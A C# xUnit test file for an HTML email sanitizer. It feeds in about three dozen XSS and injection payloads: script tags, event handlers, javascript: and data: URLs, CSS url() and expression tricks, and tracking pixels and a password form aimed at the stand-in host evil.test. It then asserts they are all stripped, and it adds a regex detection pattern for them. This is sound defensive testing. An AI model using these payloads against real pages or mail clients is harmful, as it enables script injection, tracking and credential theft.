using System.Text;
using System.Text.RegularExpressions;
using AngleSharp.Html.Parser;
using Beseda.Server.Channels.Mail;

namespace Beseda.Server.Tests.Channels;

/// <summary>A letter's page runs nothing, fetches nothing and sends nothing, whoever wrote it.</summary>
public sealed partial class Mail_page_tests
{
    private static readonly Dictionary<string, string> None = [];

    public static readonly TheoryData<string> Tricks =
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.test/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" ONERROR = 'alert(1)' title='a\" onload=\"alert(1)'>",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<a href=\"javascript:alert(1)\">a</a>",
        "<a href=\" &#106;avascript:alert(1)\">a</a>",
        "<a href=\"java\tscript:alert(1)\">a</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
        "<a href='vbscript:x'>a</a>",
        "<iframe src=https://evil.test></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=https://evil.test></object><embed src=https://evil.test><applet code=x></applet>",
        "<form action=https://evil.test><input name=password><button>ok</button></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.test'>",
        "<base href=https://evil.test/><link rel=stylesheet href=https://evil.test/x.css>",
        "<style>@import url(https://evil.test/x.css); body { background: url(https://evil.test/p) }</style>",
        "<p style=\"background-image: url(https://evil.test/p.png); color: red\">a</p>",
        "<p style=\"width: expression(alert(1)); behavior: url(x)\">a</p>",
        "<p style=\"color: red; background:u\\72l(https://evil.test/p)\">a</p>",
        "<p style='position:fixed;top:0;left:0;width:100%'>a</p>",
        "<img src=https://evil.test/pixel.gif><img srcset='https://evil.test/p 1x'><img src=//evil.test/p>",
        "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
        "<table background=https://evil.test/p><tr><td background=https://evil.test/p>a</td></tr></table>",
        "<video src=https://evil.test poster=https://evil.test><audio src=https://evil.test></audio></video>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<p title='\"><script>alert(1)</script>'>a</p>",
        "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
        "<template><script>alert(1)</script></template>",
        "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
        "<a href=https://good.test ping=https://evil.test target=_top onclick=alert(1)>a</a>",
        "<details open ontoggle=alert(1)>a</details><marquee onstart=alert(1)>a</marquee>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<b id=x name=y class=z is=w>a</b><custom-element onclick=alert(1)>a</custom-element>",
    ];

    [Theory]
    [MemberData(nameof(Tricks))]
    public void No_trick_gets_through(string trick)
    {
        using var page = new HtmlParser().ParseDocument(SafePage.Of($"<body>до {trick} после</body>", None));

        Assert.Empty(page.QuerySelectorAll("script, svg, math, iframe, object, embed, applet, form, input, button, base, link, style, video, audio, template"));
        Assert.Equal(3, page.QuerySelectorAll("meta").Length);
        foreach (var element in page.Body!.QuerySelectorAll("*"))
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), attribute.Name);
                Assert.DoesNotContain(attribute.Name, (string[])["id", "name", "class", "srcset", "background", "ping", "srcdoc", "is"]);
                Assert.False(Calls().IsMatch(attribute.Value) && attribute.Name is not ("title" or "alt"), attribute.Value);
            }

        Assert.All(page.QuerySelectorAll("a[href]"), link => Assert.Equal("https://good.test", link.GetAttribute("href")));
        Assert.StartsWith("до ", page.Body.TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public void What_is_harmless_stays()
    {
        const string Harmless = "<table border=\"1\"><tr><td colspan=\"2\" style=\"color: red; text-align: right\">Итого &amp; всё</td></tr></table>"
            + "<p><b>жирно</b><br><a href=\"https://example.com/?a=1&amp;b=2\">сайт</a> <a href=\"mailto:a@b.test\">почта</a></p>";

        var page = SafePage.Of(Harmless, None);

        Assert.Contains("style=\"color: red; text-align: right\">Итого &amp; ", Plain(page), StringComparison.Ordinal);
        Assert.Contains("<a href=\"https://example.com/?a=1&amp;b=2\" rel=\"noopener noreferrer nofollow\"", page, StringComparison.Ordinal);
        Assert.Contains("href=\"mailto:a@b.test\"", page, StringComparison.Ordinal);
        Assert.Contains("default-src 'none'", page, StringComparison.Ordinal);
    }

    [Fact]
    public void Pictures_of_the_letter_itself_are_put_inside()
    {
        var picture = $"data:image/png;base64,{Convert.ToBase64String(Encoding.ASCII.GetBytes("picture"))}";

        var page = SafePage.Of("<img src=\"cid:a%40b\" alt=\"схема\"><img src=cid:other>", new Dictionary<string, string> { ["a@b"] = picture });

        Assert.Contains($"src=\"{picture}\"", page, StringComparison.Ordinal);
        Assert.DoesNotContain("cid:", page, StringComparison.Ordinal);
    }

    private static string Plain(string page) => System.Net.WebUtility.HtmlDecode(page).Replace(" & ", " &amp; ", StringComparison.Ordinal);

    [GeneratedRegex(@"evil|javascript|vbscript|alert|expression|url\(|\\|svg", RegexOptions.IgnoreCase)]
    private static partial Regex Calls();
}
